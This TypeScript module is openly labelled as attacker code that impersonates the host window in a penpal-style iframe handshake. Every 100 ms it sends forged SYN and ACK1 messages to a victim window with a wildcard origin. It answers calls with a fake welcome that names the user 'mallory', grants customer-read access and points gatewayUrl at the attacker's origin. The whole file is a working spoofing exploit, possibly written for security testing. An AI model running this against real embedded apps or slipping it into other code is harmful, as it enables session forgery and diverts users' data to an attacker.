const HEADER = { namespace: "penpal", channel: "breezeway" };
const PERSISTENCE_MS = 100;

/**
 * Poses as the host of another window. It repeats its handshake messages every 100 ms and answers any
 * hello.
 */
export function playHost(victim: Window): void {
  const offer = (): void => {
    victim.postMessage({ ...HEADER, type: "SYN", participantId: "~attacker" }, "*");
    victim.postMessage({ ...HEADER, type: "ACK1", methodPaths: [["hello"]] }, "*");
  };
  addEventListener("message", ({ ports }) => {
    const [port] = ports;
    port?.addEventListener("message", ({ data }) => {
      const call = data as { type?: unknown; id?: unknown };
      if (call.type !== "CALL") return;
      const channel = new MessageChannel();
      channel.port1.start();
      const value = forgedAnswer(channel.port2);
      port.postMessage({ ...HEADER, type: "REPLY", callId: call.id, value }, [channel.port2]);
    });
    port?.start();
  });
  setInterval(offer, PERSISTENCE_MS);
  offer();
}

/** A forged welcome that names the attacker's gateway. */
function forgedAnswer(port: MessagePort): { welcome: unknown; port: MessagePort } {
  const welcome = {
    ok: true,
    protocol: 1,
    appId: "orders",
    capabilities: ["customers:read"],
    context: undefined,
    theme: { scheme: "light" },
    locale: "en",
    session: { userId: "mallory", tenantId: "acme", handle: "forged" },
    token: null,
    gatewayUrl: location.origin,
  };
  return { welcome, port };
}
